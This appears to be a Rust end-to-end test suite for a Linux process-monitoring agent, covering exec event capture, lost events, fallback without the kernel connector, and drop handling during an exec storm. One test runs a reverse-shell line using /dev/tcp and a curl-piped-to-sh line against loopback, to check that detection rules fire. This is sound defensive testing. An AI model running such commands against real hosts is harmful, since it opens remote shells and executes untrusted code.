//! Real-time exec events end to end: a real agent and procmond (as root, which CI is), the
//! kernel's process connector, processes started by the test.
//!
//! - short-lived processes (2 to 10 ms, several hundred a second) appear in `process_events`
//!   with their full command line, between two scans; the test prints the counts and the
//!   exec-to-queryable latency;
//! - `/bin/true`s, which live for well under a millisecond: every one yields an exec event,
//!   read or marked lost with the parent the kernel gave;
//! - a one-shot reverse shell and a download piped into a shell, both exiting at once, raise
//!   the built-in rules' alerts naming their pids;
//! - the fallback: with the connector unavailable (another network namespace) or switched off,
//!   scans go on and health says exec events are off and why;
//! - a storm while procmond cannot keep up: drops are counted in health and in the ledger,
//!   the queue stays bounded, and events flow again afterwards.

use std::collections::{BTreeMap, BTreeSet};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use daemoneye_e2e::{Agent, wait_for};
use serde_json::Value;

/// Scans far apart: whatever the test finds between them came from exec events.
const INTERVAL: f64 = 600.0;

/// The tests of this file one at a time: a storm of execs from one would be load on another's
/// short-lived processes, and each test's counts must be its own.
static SERIAL: std::sync::Mutex<()> = std::sync::Mutex::new(());

fn serial() -> std::sync::MutexGuard<'static, ()> {
    SERIAL
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner)
}

fn json_rows(agent: &Agent, sql: &str) -> Vec<Value> {
    let output = agent.cli(&["query", "--format", "json", "--sql", sql]);
    assert!(
        output.status.success(),
        "query failed: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    match serde_json::from_slice(&output.stdout) {
        Ok(Value::Array(rows)) => rows,
        other => panic!("query printed {other:?}"),
    }
}

fn exec_component(agent: &Agent) -> (String, String) {
    let health = agent.health().expect("health answers");
    let component = health["components"]
        .as_array()
        .expect("components")
        .iter()
        .find(|c| c["name"] == "exec events")
        .unwrap_or_else(|| panic!("no exec events component in {health}"))
        .clone();
    (
        component["status"].as_str().unwrap_or_default().to_owned(),
        component["detail"].as_str().unwrap_or_default().to_owned(),
    )
}

/// Waits until `agent`'s health report says `ready`; returns that report.
fn health_when(agent: &Agent, what: &str, ready: impl Fn(&Value) -> Option<bool>) -> Value {
    wait_for(what, Duration::from_secs(60), || {
        let health = agent.health()?;
        ready(&health)?.then_some(health)
    })
}

/// Exec events on, and a first scan stored.
fn events_on(health: &Value) -> Option<bool> {
    Some(health["exec_events"]["on"].as_bool()? && health["scans"]["completed"].as_u64()? >= 1)
}

/// At least two scans.
fn two_scans(health: &Value) -> Option<bool> {
    Some(health["scans"]["completed"].as_u64()? >= 2)
}

/// Starts an agent (scans far apart) and waits for its exec events and its first scan.
fn agent_with_events(config: &str) -> Agent {
    let agent = Agent::start(config, INTERVAL);
    agent.wait_for_procmond();
    health_when(&agent, "exec events on and a first scan", events_on);
    agent
}

fn spawn_quiet(program: &str, args: &[&str]) -> Child {
    Command::new(program)
        .args(args)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap_or_else(|err| panic!("spawning {program}: {err}"))
}

fn percentile(sorted: &[i64], p: f64) -> i64 {
    if sorted.is_empty() {
        return -1;
    }
    let index = ((sorted.len() - 1) as f64 * p).round() as usize;
    sorted[index]
}

#[test]
fn a_thousand_short_lived_processes_appear_with_their_command_lines() {
    let _serial = serial();
    let agent = agent_with_events("");
    // 1,000 processes living 2 to 10 ms (three in nine under 5 ms), about 300 a second, each
    // with an argument of its own: `sleep 0.0DD NNNNe-12` sleeps DD ms. Spawned on a thread of
    // their own while this one polls what is queryable: a pid's first sighting gives its
    // exec-to-queryable latency.
    let spawner = std::thread::spawn(|| {
        let mut expected: BTreeMap<u32, String> = BTreeMap::new();
        let mut children = Vec::new();
        let started = Instant::now();
        for n in 0..1000u32 {
            let lifetime = format!("{:.3}", f64::from(n % 9 + 2) / 1000.0);
            let unique = format!("{}e-12", 70_000 + n);
            let child = spawn_quiet("/bin/sleep", &[&lifetime, &unique]);
            expected.insert(child.id(), format!("/bin/sleep {lifetime} {unique}"));
            children.push(child);
            std::thread::sleep(Duration::from_micros(2500));
            if children.len() >= 64 {
                for mut child in children.drain(..) {
                    let _ = child.wait();
                }
            }
        }
        for mut child in children {
            let _ = child.wait();
        }
        (expected, started.elapsed().as_secs_f64())
    });
    let sql = "SELECT pid, cmdline, observed_at, lost FROM process_events \
               WHERE event = 'exec' AND (cmdline LIKE '/bin/sleep 0.0%e-12' OR lost = 1)";
    let mut seen: BTreeMap<u32, (String, i64)> = BTreeMap::new();
    let mut lost: BTreeSet<u32> = BTreeSet::new();
    let mut latencies = Vec::new();
    let mut spawned = None;
    let deadline = Instant::now() + Duration::from_secs(120);
    while Instant::now() < deadline {
        if spawner.is_finished() {
            spawned = Some(());
        }
        let now_ms = daemoneye_e2e::now_ms();
        for row in json_rows(&agent, sql) {
            let pid = u32::try_from(row["pid"].as_u64().unwrap_or(0)).unwrap_or(0);
            if row["lost"] == 1 {
                lost.insert(pid);
                continue;
            }
            let cmdline = row["cmdline"].as_str().unwrap_or_default().to_owned();
            let observed = row["observed_at"].as_i64().unwrap_or(now_ms);
            if !seen.contains_key(&pid) {
                latencies.push(now_ms - observed);
            }
            seen.insert(pid, (cmdline, observed));
        }
        if spawned.is_some() {
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    let (expected, spawn_secs) = spawner.join().expect("the spawner");
    let _ = spawned;
    // One more look once everything has had time to arrive.
    std::thread::sleep(Duration::from_secs(2));
    for row in json_rows(&agent, sql) {
        let pid = u32::try_from(row["pid"].as_u64().unwrap_or(0)).unwrap_or(0);
        if row["lost"] == 1 {
            lost.insert(pid);
        } else if let Some(cmdline) = row["cmdline"].as_str() {
            seen.entry(pid)
                .or_insert_with(|| (cmdline.to_owned(), row["observed_at"].as_i64().unwrap_or(0)));
        }
    }
    let lost: BTreeSet<u32> = lost
        .into_iter()
        .filter(|pid| expected.contains_key(pid))
        .collect();
    let seen: BTreeMap<u32, (String, i64)> = seen
        .into_iter()
        .filter(|(pid, _)| expected.contains_key(pid))
        .collect();
    let full = expected
        .iter()
        .filter(|(pid, cmdline)| seen.get(pid).is_some_and(|(got, _)| got == *cmdline))
        .count();
    latencies.sort_unstable();
    println!(
        "exec events: {full} of {} processes with their full command line ({:.0}/s spawned), \
         {} lost (exited before they were read), {} missing; exec to queryable: p50 {} ms, \
         p99 {} ms (polled every 200 ms)",
        expected.len(),
        expected.len() as f64 / spawn_secs,
        lost.len(),
        expected.len() - seen.len() - lost.len(),
        percentile(&latencies, 0.5),
        percentile(&latencies, 0.99),
    );
    assert!(
        full * 100 >= expected.len() * 99,
        "only {full} of {} short-lived processes were stored with their command line",
        expected.len()
    );
    // The scans did not see them: only one scan ran.
    let scans = json_rows(&agent, "SELECT count(*) AS n FROM scans");
    assert_eq!(scans[0]["n"], 1, "{scans:?}");
}

#[test]
fn a_process_that_exits_before_it_is_read_still_yields_an_event() {
    let _serial = serial();
    let agent = agent_with_events("");
    let mut pids = BTreeSet::new();
    for n in 0..300u32 {
        let mut child = spawn_quiet("/bin/true", &[&format!("gone-{n}")]);
        pids.insert(child.id());
        let _ = child.wait();
    }
    let me = std::process::id();
    let sql = "SELECT pid, parent, cmdline, lost, path FROM process_events WHERE event = 'exec'";
    let rows = wait_for(
        "an exec event for every /bin/true",
        Duration::from_secs(60),
        || {
            let rows: BTreeMap<u32, Value> = json_rows(&agent, sql)
                .into_iter()
                .filter_map(|row| {
                    let pid = u32::try_from(row["pid"].as_u64()?).ok()?;
                    pids.contains(&pid).then_some((pid, row))
                })
                .collect();
            (rows.len() == pids.len()).then_some(rows)
        },
    );
    let lost: Vec<&Value> = rows.values().filter(|row| row["lost"] == 1).collect();
    println!(
        "/bin/true: {} of {} read before they exited, {} lost",
        rows.len() - lost.len(),
        rows.len(),
        lost.len()
    );
    for row in rows.values() {
        if row["lost"] == 1 {
            // What the kernel gave: the pid, and the parent (the fork came from this test).
            assert_eq!(row["parent"], me, "{row}");
            assert!(row["cmdline"].is_null() && row["path"].is_null(), "{row}");
        } else {
            assert_eq!(row["lost"], 0, "{row}");
            let cmdline = row["cmdline"].as_str().expect("a command line");
            assert!(cmdline.starts_with("/bin/true gone-"), "{row}");
        }
    }
}

/// Waits for an alert of `rule` whose rows name `pid`; returns it and how long it took.
fn alert_for(agent: &Agent, rule: &str, pid: u32, since: Instant) -> (Value, Duration) {
    wait_for(
        &format!("{rule} naming pid {pid}"),
        Duration::from_secs(60),
        || {
            agent
                .printed_alerts()
                .into_iter()
                .find(|alert| {
                    alert["rule_id"] == rule
                        && alert["rows"]
                            .as_array()
                            .is_some_and(|rows| rows.iter().any(|row| row["pid"] == pid))
                })
                .map(|alert| (alert, since.elapsed()))
        },
    )
}

#[test]
fn a_one_shot_reverse_shell_and_a_piped_download_raise_alerts_at_once() {
    let _serial = serial();
    let agent = agent_with_events("");
    // Port 1 on loopback refuses: each exits at once, as a failed callback or download would.
    let cases = [
        (
            "reverse shell",
            "bash",
            "bash -i >& /dev/tcp/127.0.0.1/1 0>&1",
            "DE-LNX-0007",
        ),
        (
            "curl | sh",
            "sh",
            "curl -fsS http://127.0.0.1:1/i.sh | sh",
            "DE-LNX-0008",
        ),
    ];
    for (what, shell, line, rule) in cases {
        let started = Instant::now();
        let mut child = spawn_quiet(shell, &["-c", line]);
        let pid = child.id();
        let _ = child.wait();
        let (alert, took) = alert_for(&agent, rule, pid, started);
        println!("{what} (pid {pid}): alert after {} ms", took.as_millis());
        assert_eq!(alert["rule_id"], rule, "{alert}");
    }

    // Neither process was ever in a scan.
    let scans = json_rows(&agent, "SELECT count(*) AS n FROM scans");
    assert_eq!(scans[0]["n"], 1, "{scans:?}");
}

/// The inodes of the sockets process `pid` has open.
fn socket_inodes(pid: u32) -> BTreeSet<String> {
    std::fs::read_dir(format!("/proc/{pid}/fd"))
        .map(|dir| {
            dir.filter_map(|entry| std::fs::read_link(entry.ok()?.path()).ok())
                .filter_map(|target| {
                    let target = target.to_string_lossy().into_owned();
                    Some(
                        target
                            .strip_prefix("socket:[")?
                            .strip_suffix(']')?
                            .to_owned(),
                    )
                })
                .collect()
        })
        .unwrap_or_default()
}

/// How many of the process's sockets are in the kernel's netlink table.
fn open_netlink_sockets(pid: u32) -> usize {
    let inodes = socket_inodes(pid);
    let table = std::fs::read_to_string("/proc/net/netlink").unwrap_or_default();
    table
        .lines()
        .skip(1)
        .filter(|line| {
            let fields: Vec<&str> = line.split_whitespace().collect();
            fields.last().is_some_and(|inode| inodes.contains(*inode))
        })
        .count()
}

/// The process's sockets that are internet sockets (TCP, UDP, raw; v4 and v6).
fn internet_sockets(pid: u32) -> Vec<String> {
    let inodes = socket_inodes(pid);
    let mut found = Vec::new();
    for table in ["tcp", "tcp6", "udp", "udp6", "raw", "raw6"] {
        let text = std::fs::read_to_string(format!("/proc/{pid}/net/{table}")).unwrap_or_default();
        for line in text.lines().skip(1) {
            let fields: Vec<&str> = line.split_whitespace().collect();
            if fields.get(9).is_some_and(|inode| inodes.contains(*inode)) {
                found.push(format!("{table}: {line}"));
            }
        }
    }
    found
}

#[test]
fn procmond_holds_one_netlink_socket_for_process_events_and_no_internet_socket() {
    let _serial = serial();
    let agent = agent_with_events("");
    let health = agent.health().expect("health");
    let procmond = u32::try_from(health["procmond"]["pid"].as_u64().expect("a pid")).unwrap();
    assert_eq!(open_netlink_sockets(procmond), 1);
    assert_eq!(internet_sockets(procmond), Vec::<String>::new());
    // It kept no capability for them: CAP_SYS_PTRACE and CAP_DAC_READ_SEARCH only.
    assert_eq!(health["procmond"]["effective_caps"], "0x0000000000080004");
}

#[test]
fn without_the_connector_scans_go_on_and_health_says_why() {
    let _serial = serial();
    // Switched off by the operator.
    let off = Agent::start("[collection]\nexec_events = false\n", 1.0);
    off.wait_for_procmond();
    let health = health_when(&off, "two scans", two_scans);
    let (status, detail) = exec_component(&off);
    assert_eq!(status, "degraded", "{detail}");
    assert!(
        detail.starts_with("off: off in the configuration (collection.exec_events = false)"),
        "{detail}"
    );
    let procmond = u32::try_from(health["procmond"]["pid"].as_u64().unwrap()).unwrap();
    assert_eq!(open_netlink_sockets(procmond), 0);
    drop(off);

    // A network namespace of its own: the kernel's connector lives in the host's only.
    let unshared = Agent::start_with_wrapper(&["unshare", "--net", "--"], "", 1.0);
    unshared.wait_for_procmond();
    health_when(&unshared, "two scans without the connector", two_scans);
    let (status, detail) = exec_component(&unshared);
    assert_eq!(status, "degraded", "{detail}");
    assert!(detail.starts_with("off: "), "{detail}");
    assert!(detail.contains("no process connector here"), "{detail}");
    let health = unshared.health().expect("health");
    assert_eq!(health["exec_events"]["on"], false, "{health}");
}

#[test]
fn a_storm_procmond_cannot_keep_up_with_is_counted_bounded_and_survived() {
    let _serial = serial();
    let dir = tempfile::tempdir().expect("a temporary directory");
    let gate = dir.path().join("exec-gate");
    let export = dir.path().join("audit-export");
    let agent = Agent::start_in(
        dir,
        "",
        INTERVAL,
        &[("DAEMONEYE_TEST_EXEC_GATE", gate.as_path())],
    );
    agent.wait_for_procmond();
    let health = health_when(&agent, "exec events on and a first scan", events_on);
    let procmond = u32::try_from(health["procmond"]["pid"].as_u64().unwrap()).unwrap();
    let rss_before = daemoneye_e2e::rss_kib(procmond);
    let counts = |health: &Value| {
        let exec = &health["exec_events"];
        (
            exec["received"].as_u64().unwrap(),
            exec["dropped"].as_u64().unwrap(),
        )
    };
    let (received_before, dropped_before) = counts(&health);

    // procmond's pusher is held: its queue fills, and what does not fit must be counted.
    std::fs::write(&gate, b"").unwrap();
    storm(6000);
    let health = health_when(&agent, "drops counted", |health| {
        Some(health["exec_events"]["dropped"].as_u64()? > 0)
    });
    let (received, dropped) = counts(&health);
    let (received, dropped) = (received - received_before, dropped - dropped_before);
    let rss_during = daemoneye_e2e::rss_kib(procmond);
    println!(
        "storm of 6,000 execs with the pusher held: received {received}, dropped {dropped}; \
         procmond RSS {rss_before} KiB before, {rss_during} KiB during"
    );
    // The queue holds at most 2,048: the rest of what arrived was dropped, not kept.
    assert!(
        received - dropped <= 2048 + 64,
        "received {received}, dropped {dropped}: more kept than the queue holds"
    );
    let (status, detail) = exec_component(&agent);
    assert_eq!(status, "degraded", "{detail}");
    assert!(detail.contains("events dropped"), "{detail}");

    // Released, it catches up, says so in the ledger, and new execs flow again.
    std::fs::remove_file(&gate).unwrap();
    health_when(&agent, "the queue drained", |health| {
        let exec = &health["exec_events"];
        let (received, pushed, dropped) = (
            exec["received"].as_u64()?,
            exec["pushed"].as_u64()?,
            exec["dropped"].as_u64()?,
        );
        Some(pushed + dropped >= received)
    });
    let mut child = spawn_quiet("/bin/sleep", &["0.005", "424242e-12"]);
    let pid = child.id();
    let _ = child.wait();
    wait_for("an exec after the storm", Duration::from_secs(60), || {
        let rows = json_rows(
            &agent,
            &format!("SELECT pid FROM process_events WHERE event = 'exec' AND pid = {pid}"),
        );
        (!rows.is_empty()).then_some(())
    });
    let entry = wait_for("the drop in the ledger", Duration::from_secs(60), || {
        let _ = std::fs::remove_dir_all(&export);
        let output = agent.cli(&["audit", "export", "--out", export.to_str().unwrap()]);
        assert!(output.status.success(), "{output:?}");
        std::fs::read_to_string(export.join("entries.jsonl"))
            .unwrap()
            .lines()
            .map(|line| serde_json::from_str::<Value>(line).unwrap())
            .find(|e| e["kind"] == "exec_events_dropped")
    });
    assert_eq!(
        entry["fields"]["reason"], "procmond could not keep up with them",
        "{entry:#}"
    );
    assert!(entry["fields"]["count"].as_u64().unwrap() > 0, "{entry:#}");
    assert_eq!(entry["source"], "procmond", "{entry:#}");
}

/// Starts `count` `/bin/true`s from four threads as fast as they go.
fn storm(count: usize) {
    let threads: Vec<_> = (0..4)
        .map(|_| {
            std::thread::spawn(move || {
                for _ in 0..count / 4 {
                    let mut child = spawn_quiet("/bin/true", &[]);
                    let _ = child.wait();
                }
            })
        })
        .collect();
    for thread in threads {
        thread.join().expect("a storm thread");
    }
}
